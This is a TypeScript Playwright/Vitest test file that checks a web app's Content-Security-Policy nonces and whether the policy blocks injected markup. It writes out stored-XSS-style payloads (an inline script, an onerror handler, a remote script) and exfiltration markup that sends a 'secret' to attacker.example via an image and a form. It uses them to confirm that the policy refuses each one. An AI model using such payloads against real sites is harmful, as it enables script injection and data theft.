import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEMO_ACCOUNTS } from "@/demo/accounts";
import { baseUrl, expectFailures, hydrated, launchBrowser } from "../helpers/browser";

/**
 * Pages with scripts (Next's, or a public page's islands) run them by a nonce of their own
 * (server/csp.ts): markup that reached the page any other way,
 * as a stored XSS would, does not run, on a public page as in the admin.
 */

/** The nonce a page's policy allows, and the nonce attribute of each script it would run (structured data is not one). */
async function scriptsAndPolicy(path: string, headers: Record<string, string> = {}) {
  const answer = await fetch(baseUrl() + path, { headers });
  const policy = answer.headers.get("content-security-policy") ?? "";
  const html = await answer.text();
  const scripts = [...html.matchAll(/<script\b([^>]*)>/g)].map((m) => m[1]!).filter((attributes) => !attributes.includes("application/ld+json"));
  return {
    cache: answer.headers.get("x-cache"),
    policy,
    nonce: /'nonce-([\w-]+)'/.exec(policy)?.[1],
    scriptNonces: scripts.map((attributes) => /\bnonce="([^"]*)"/.exec(attributes)?.[1]),
  };
}

/** A session cookie of the operator's, from the real sign-in route, from an address of this file's own. */
async function operatorCookie(): Promise<{ name: string; value: string }> {
  const answer = await fetch(`${baseUrl()}/api/auth/sign-in`, {
    method: "POST",
    body: new URLSearchParams(DEMO_ACCOUNTS.operator),
    headers: { "X-Forwarded-For": "198.51.100.250" },
    redirect: "manual",
  });
  const [name, value] = answer.headers.getSetCookie()[0]!.split(";")[0]!.split(/=(.*)/s) as [string, string];
  return { name, value };
}

/** Records every script the page's policy refused, from before the page's first byte. */
async function watchRefusals(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(window, { refusedByPolicy: refused });
    document.addEventListener("securitypolicyviolation", (event) => refused.push(`${event.effectiveDirective} ${event.blockedURI || event.sample}`));
  });
  return () => page.evaluate(() => (window as unknown as { refusedByPolicy: string[] }).refusedByPolicy);
}

/** Markup a stored XSS would put in a page: an inline script, an event handler and a script file of another origin. */
const INJECTED = `<script>window.injectedRan = true</script><img src="/no-such-picture.png" alt="" onerror="window.handlerRan = true"><script src="https://attacker.example/x.js"></script>`;

describe("Content-Security-Policy on pages with scripts", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(async () => browser?.close());

  it("marks every script of a kept page with the nonce its policy allows, the same nonce for as long as that copy is kept", async () => {
    const first = await scriptsAndPolicy("/clearpath-access/contact");
    expect(first.policy).toMatch(/script-src 'nonce-[\w-]{20,}' 'strict-dynamic'/);
    expect(first.policy).toContain("frame-ancestors 'self'");
    expect(first.scriptNonces.length).toBeGreaterThan(0);
    expect(first.scriptNonces.every((nonce) => nonce === first.nonce)).toBe(true);
    await expect.poll(async () => (await scriptsAndPolicy("/clearpath-access/contact")).cache).toBe("hit");
    const kept = await scriptsAndPolicy("/clearpath-access/contact");
    expect(kept.scriptNonces.every((nonce) => nonce === kept.nonce)).toBe(true);
  });

  it("gives each admin page a nonce of its own, never one the client sent", async () => {
    const { name, value } = await operatorCookie();
    const asked = { Cookie: `${name}=${value}`, "Content-Security-Policy": "script-src 'nonce-chosenbytheclient'" };
    const [one, two] = [
      await scriptsAndPolicy("/admin/sites/lockstep-escapes/pages", asked),
      await scriptsAndPolicy("/admin/sites/lockstep-escapes/pages", asked),
    ];
    for (const answer of [one, two]) {
      expect(answer.scriptNonces.length).toBeGreaterThan(0);
      expect(answer.scriptNonces.every((nonce) => nonce === answer.nonce)).toBe(true);
      expect(answer.nonce).not.toBe("chosenbytheclient");
    }
    expect(one.nonce).not.toBe(two.nonce);
  });

  it("runs a public form page's own scripts and none that were put into it", async () => {
    // What the test puts into the page is refused by the policy, and React sees markup it did not render: all expected here.
    expectFailures(/violates the following Content Security Policy/, /^404 GET .*\/no-such-picture\.png$/, /Minified React error #418/);
    const page = await browser.newPage();
    const refusals = await watchRefusals(page);
    // The page as the server sent it, headers and all, with the injected markup in its body.
    await page.route(`${baseUrl()}/clearpath-access/contact`, async (route) => {
      const answer = await route.fetch();
      await route.fulfill({ response: answer, body: (await answer.text()).replace("</main>", `${INJECTED}</main>`) });
    });
    await page.goto(baseUrl() + "/clearpath-access/contact");
    // The islands' scripts ran (server/csp.ts lets them by the page's nonce): the form checks fields as the visitor types.
    const email = page.getByLabel(/email/i).first();
    await hydrated(email);
    await email.fill("not an address");
    await email.blur();
    await expect.poll(() => page.locator('[aria-invalid="true"]').count()).toBeGreaterThan(0);
    expect(await page.evaluate(() => ({ injected: "injectedRan" in window, handler: "handlerRan" in window }))).toEqual({ injected: false, handler: false });
    const refused = await refusals();
    expect(refused.length).toBeGreaterThanOrEqual(3);
    expect(refused.every((line) => line.startsWith("script-src"))).toBe(true);
    await page.close();
  });

  it("lets markup put into a page send nothing out, by a picture's address or a form's", async () => {
    expectFailures(/violates the following Content Security Policy/);
    const page = await browser.newPage();
    const refusals = await watchRefusals(page);
    const injected = `<img src="https://attacker.example/p.png?read=secret" alt=""><form id="out" method="post" action="https://attacker.example/collect"><input name="read" value="secret"></form>`;
    await page.route(`${baseUrl()}/clearpath-access/about`, async (route) => {
      const answer = await route.fetch();
      await route.fulfill({ response: answer, body: (await answer.text()).replace("</main>", `${injected}</main>`) });
    });
    await page.goto(baseUrl() + "/clearpath-access/about");
    // Sent as pressing Enter in it would send it.
    await page.locator("#out").evaluate((form: HTMLFormElement) => form.requestSubmit());
    await expect.poll(async () => (await refusals()).map((line) => line.split(" ")[0]).sort()).toEqual(["form-action", "img-src"]);
    expect(page.url()).toBe(`${baseUrl()}/clearpath-access/about`);
    await page.close();
  });

  it("runs the admin's scripts with no refusal", async () => {
    const context = await browser.newContext();
    await context.addCookies([{ ...(await operatorCookie()), url: baseUrl() }]);
    const page = await context.newPage();
    const refusals = await watchRefusals(page);
    await page.goto(baseUrl() + "/admin/sites/lockstep-escapes/pages");
    await expect.poll(() => page.evaluate(() => typeof (window as unknown as { next?: { version?: string } }).next?.version)).toBe("string");
    // A client navigation loads the next page's chunks through the trusted scripts ('strict-dynamic').
    await page
      .getByRole("link", { name: /settings/i })
      .first()
      .click();
    await page.waitForURL(/\/settings$/);
    await expect.poll(() => page.locator("h1").count()).toBe(1);
    expect(await refusals()).toEqual([]);
    await context.close();
  });
});
